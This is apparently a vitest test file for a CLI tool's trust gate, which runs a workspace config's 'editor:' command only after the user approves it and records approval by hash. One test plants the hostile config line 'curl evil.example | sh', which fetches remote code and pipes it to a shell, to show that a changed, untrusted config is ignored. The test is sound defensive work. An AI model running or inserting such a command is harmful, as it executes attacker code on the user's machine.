import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createContext } from "../../src/workspace/context.js";
import { editorCommand, trustFile } from "../../src/workspace/editor.js";
import { tempDir, workspace } from "../helpers/workspace.js";

const CONFIG = "editor: my-editor --wait\n";

/** The IO bits editorCommand uses, collecting stderr; `home` is a temp folder unless null (unset). */
function term(opts: { home?: string | null; interactive?: boolean; env?: NodeJS.ProcessEnv } = {}) {
  const home = opts.home === undefined ? tempDir("learn-home-") : opts.home;
  const err: string[] = [];
  return {
    io: {
      env: { ...(home === null ? {} : { HOME: home }), ...opts.env },
      interactive: opts.interactive ?? true,
      err: (t: string) => void err.push(t),
    },
    err,
    home,
  };
}

const askingYes = () => {
  const asked: string[] = [];
  return { asked, ask: async (command: string) => (asked.push(command), true) };
};

describe("a workspace config's editor: runs only once trusted", () => {
  it("asks once at a terminal, records the config's sha256 in ~/.config/learn/trusted.json, then runs it", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const t = term();
    const { asked, ask } = askingYes();
    expect(await editorCommand(ctx, t.io, ask)).toBe("my-editor --wait");
    expect(asked).toEqual(["my-editor --wait"]);
    const file = join(t.home!, ".config", "learn", "trusted.json");
    expect(trustFile(t.io.env)).toBe(file);
    const store = JSON.parse(readFileSync(file, "utf8")) as { trusted: Record<string, { path: string }> };
    expect(Object.values(store.trusted).map((v) => v.path)).toEqual([ctx.ws.configPath]);
    // asked once: the next run trusts it without a question, even without a terminal
    expect(await editorCommand(ctx, { ...t.io, interactive: false }, ask)).toBe("my-editor --wait");
    expect(asked).toHaveLength(1);
    expect(t.err).toEqual([]);
  });

  it("uses $XDG_CONFIG_HOME when set", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const xdg = tempDir("learn-xdg-");
    const t = term({ env: { XDG_CONFIG_HOME: xdg } });
    await editorCommand(ctx, t.io, askingYes().ask);
    expect(existsSync(join(xdg, "learn", "trusted.json"))).toBe(true);
    expect(existsSync(join(t.home!, ".config"))).toBe(false);
  });

  it("asks again when the config's editor line changes (its hash changes)", async () => {
    const root = workspace({}, { config: CONFIG });
    const t = term();
    const first = askingYes();
    await editorCommand(await createContext({ dir: root }, { env: {} }), t.io, first.ask);
    writeFileSync(join(root, "learn.config.yaml"), "editor: curl evil.example | sh\n");
    const ctx = await createContext({ dir: root }, { env: {} });
    expect(await editorCommand(ctx, { ...t.io, interactive: false }, first.ask)).toBeUndefined();
    expect(t.err.join("")).toMatch(
      /ignoring `editor:` in .*learn\.config\.yaml: this workspace's config is not trusted/,
    );
    const second = askingYes();
    expect(await editorCommand(ctx, t.io, second.ask)).toBe("curl evil.example | sh");
    expect(second.asked).toHaveLength(1);
  });

  it("without a terminal, ignores an untrusted editor with a one-line notice and never asks", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const t = term({ interactive: false });
    const { asked, ask } = askingYes();
    expect(await editorCommand(ctx, t.io, ask)).toBeUndefined();
    expect(asked).toEqual([]);
    expect(t.err).toHaveLength(1);
    expect(t.err[0]).toContain("LEARN_TRUST=1");
    expect(t.err[0]!.trim().split("\n")).toHaveLength(1);
  });

  it("a no at the prompt is not remembered and runs nothing", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const t = term();
    expect(await editorCommand(ctx, t.io, async () => false)).toBeUndefined();
    expect(existsSync(join(t.home!, ".config", "learn", "trusted.json"))).toBe(false);
  });

  it("LEARN_TRUST=1 trusts without asking or recording", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const t = term({ env: { LEARN_TRUST: "1" }, interactive: false });
    expect(await editorCommand(ctx, t.io)).toBe("my-editor --wait");
    expect(existsSync(join(t.home!, ".config"))).toBe(false);
  });

  it("$VISUAL and $EDITOR are the user's own: used without any trust", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const t = term({ env: { EDITOR: "vi" }, interactive: false });
    expect(await editorCommand(ctx, t.io)).toBe("vi");
    expect(await editorCommand(ctx, { ...t.io, env: { ...t.io.env, VISUAL: "code -w" } })).toBe("code -w");
    expect(t.err).toEqual([]);
  });

  it("with HOME unset, or a read-only config folder, a yes works this time and is simply not remembered", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const noHome = term({ home: null });
    expect(await editorCommand(ctx, noHome.io, askingYes().ask)).toBe("my-editor --wait");
    expect(noHome.err.join("")).toContain("could not remember");

    const home = tempDir("learn-home-");
    mkdirSync(join(home, ".config"));
    writeFileSync(join(home, ".config", "learn"), "a file where the folder would be");
    const blocked = term({ home });
    expect(await editorCommand(ctx, blocked.io, askingYes().ask)).toBe("my-editor --wait");
    expect(blocked.err.join("")).toContain("could not remember");
  });

  it("never rewrites a damaged trust file", async () => {
    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
    const t = term();
    const file = join(t.home!, ".config", "learn", "trusted.json");
    mkdirSync(join(file, ".."), { recursive: true });
    writeFileSync(file, "{ not json");
    expect(await editorCommand(ctx, t.io, askingYes().ask)).toBe("my-editor --wait");
    expect(readFileSync(file, "utf8")).toBe("{ not json");
  });
});
